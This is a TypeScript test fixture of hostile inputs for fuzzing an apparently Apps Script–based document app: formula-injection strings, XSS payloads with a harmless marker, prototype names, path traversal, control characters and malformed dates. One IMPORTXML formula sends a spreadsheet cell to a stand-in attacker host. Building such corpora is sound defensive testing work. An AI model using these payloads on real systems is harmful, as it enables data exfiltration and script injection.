// The bad-input corpus, part 1: what people (or a forged page) can send. Data only; cases.ts says where each goes and
// what must hold. Every HTML payload carries the marker `alurxss`, so a page can be searched for it in an executable
// place (a <script>, an on…= attribute, a javascript: link) whatever else the page escaped.

export interface Payload {
  id: string;
  value: string;
  kind: "formula" | "html" | "long" | "control" | "proto" | "date" | "id" | "template" | "plain";
}

/** Marker in every HTML/script payload: found in an executable place of a page, the payload ran. */
export const XSS = "alurxss";

export const FORMULAS: Payload[] = [
  { id: "=", value: "=1+2", kind: "formula" },
  { id: "+", value: "+1+2", kind: "formula" },
  { id: "-", value: "-1+2", kind: "formula" },
  { id: "@", value: "@SUM(1,2)", kind: "formula" },
  { id: "tab=", value: "\t=1+2", kind: "formula" },
  { id: "cr=", value: "\r=1+2", kind: "formula" },
  { id: "IMPORTXML", value: '=IMPORTXML("https://penyerang.example/x?d="&A1,"//a")', kind: "formula" },
  { id: "HYPERLINK", value: '=HYPERLINK("https://penyerang.example/","Klik di sini")', kind: "formula" },
];

export const HTML: Payload[] = [
  { id: "script", value: `<script>${XSS}(1)</script>`, kind: "html" },
  { id: "img-onerror", value: `<img src=x onerror=${XSS}(2)>`, kind: "html" },
  { id: "attr-break", value: `"><svg onload=${XSS}(3)>`, kind: "html" },
  { id: "attr-single", value: `' onmouseover='${XSS}(4)' x='`, kind: "html" },
  { id: "javascript-url", value: `javascript:${XSS}(5)`, kind: "html" },
  { id: "close-textarea", value: `</textarea></p><script>${XSS}(6)</script>`, kind: "html" },
  { id: "scriptlet", value: `<?= ${XSS}(7) ?><?!= ${XSS}(8) ?>`, kind: "html" },
  { id: "entities", value: `&lt;script&gt;${XSS}(9)&lt;/script&gt; &amp; &#60;b&#62;`, kind: "html" },
];

export const LONG: Payload[] = [
  { id: "50000", value: "A".repeat(50_000), kind: "long" },
  { id: "50001-multibyte", value: "é😀".repeat(16_667), kind: "long" },
];

export const CONTROL: Payload[] = [
  { id: "nul-bell-esc", value: "Surat\u0000\u0007\u001b[31m merah", kind: "control" },
  { id: "newlines", value: "baris 1\r\nbaris 2\n\n\u2028baris 3", kind: "control" },
  { id: "bidi-bom", value: "\ufeff\u202eSurat\u202c penting", kind: "control" },
  { id: "lone-surrogate", value: "Surat \ud800 rusak", kind: "control" },
];

export const PROTO: Payload[] = [
  { id: "__proto__", value: "__proto__", kind: "proto" },
  { id: "constructor", value: "constructor", kind: "proto" },
  { id: "toString", value: "toString", kind: "proto" },
  { id: "hasOwnProperty", value: "hasOwnProperty", kind: "proto" },
];

export const DATES: Payload[] = [
  { id: "30-feb", value: "2026-02-30", kind: "date" },
  { id: "month-13", value: "2026-13-01", kind: "date" },
  { id: "day-first", value: "31/12/2026", kind: "date" },
  { id: "words", value: "besok pagi", kind: "date" },
  { id: "year-0", value: "0000-00-00", kind: "date" },
  { id: "iso-time", value: "2026-11-02T25:61:00Z", kind: "date" },
];

export const IDS: Payload[] = [
  { id: "no-such-number", value: "SM-2026-9999", kind: "id" },
  { id: "no-such-code", value: "XX-2026-0001", kind: "id" },
  { id: "quote", value: "SM-2026-0001'", kind: "id" },
  { id: "path", value: "../SM-2026-0001", kind: "id" },
  { id: "proto-code", value: "constructor-2026-0001", kind: "id" },
  { id: "proto-code2", value: "__proto__-1", kind: "id" },
  { id: "regex", value: "SM-2026-.*", kind: "id" },
];

export const TEMPLATE: Payload[] = [
  { id: "placeholder", value: "{{surat.nomor}} {{kop}} {{penandatangan.nama}}", kind: "template" },
  { id: "pattern", value: "{klasifikasi}/{urut}/$1$&", kind: "template" },
];

/** Text payloads for a field people type (formulas, HTML, long, control, prototype names, templates). */
export const TEXT: Payload[] = [...FORMULAS, ...HTML, ...LONG, ...CONTROL, ...PROTO, ...TEMPLATE];

/**
 * One or two of each kind, for the fields where the whole list would repeat what the main fields show (the same
 * server-side check, the same write path): every formula prefix that Sheets may read, a script and an attribute break,
 * the long text, control characters, a prototype name and a placeholder.
 */
export const TEXT_SHORT: Payload[] = [...FORMULAS.slice(0, 6), HTML[0], HTML[2], LONG[0], CONTROL[0], CONTROL[3], PROTO[0], TEMPLATE[0]];

/** Values of the wrong type, as google.script.run can carry them (JSON-like: no Date, function or undefined). */
export interface WrongType {
  id: string;
  value: unknown;
}

export const WRONG_TYPES: WrongType[] = [
  { id: "number", value: 42 },
  { id: "negative", value: -1 },
  { id: "boolean", value: true },
  { id: "null", value: null },
  { id: "array", value: ["a", "b"] },
  { id: "empty-array", value: [] },
  { id: "object", value: { a: 1 } },
  { id: "toString-object", value: { toString: "x", valueOf: "y", length: 3 } },
];
